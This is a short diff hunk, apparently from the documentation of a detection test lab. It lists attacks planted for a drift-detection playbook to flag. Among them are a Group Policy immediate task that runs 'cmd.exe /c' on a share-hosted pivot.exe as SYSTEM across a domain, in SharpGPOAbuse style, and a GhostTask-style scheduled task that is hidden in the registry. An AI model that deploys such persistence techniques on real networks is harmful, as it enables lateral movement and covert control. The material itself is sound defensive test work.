@@ -26,7 +26,7 @@ Planted attacks (each must be flagged by ``playbooks/drift.yml``):
   the 4698/4699 and 106/141 exports;
 * dc01: a Group Policy Preferences immediate task (``ImmediateTaskV2``) in the SYSVOL of
   GPO ``{5C2B7A1E-9D43-4F6B-8E21-3A7D0C9B6E54}`` ("Server Maintenance") that runs
-  ``cmd.exe /c \\fs02\software$\pivot.exe`` as SYSTEM on every computer the GPO applies to
+  ``cmd.exe /c \\\\fs02\\software$\\pivot.exe`` as SYSTEM on every computer the GPO applies to
   (SharpGPOAbuse style; judged by ``admin_surface``, codes TG-G003/TG-G004);
 * adminws01: GhostTask-style ``\\Microsoft\\Windows\\Diagnosis\\RecommendedTroubleshootingCheck``:
   TaskCache Tree and Tasks entries only (no task file, no event).
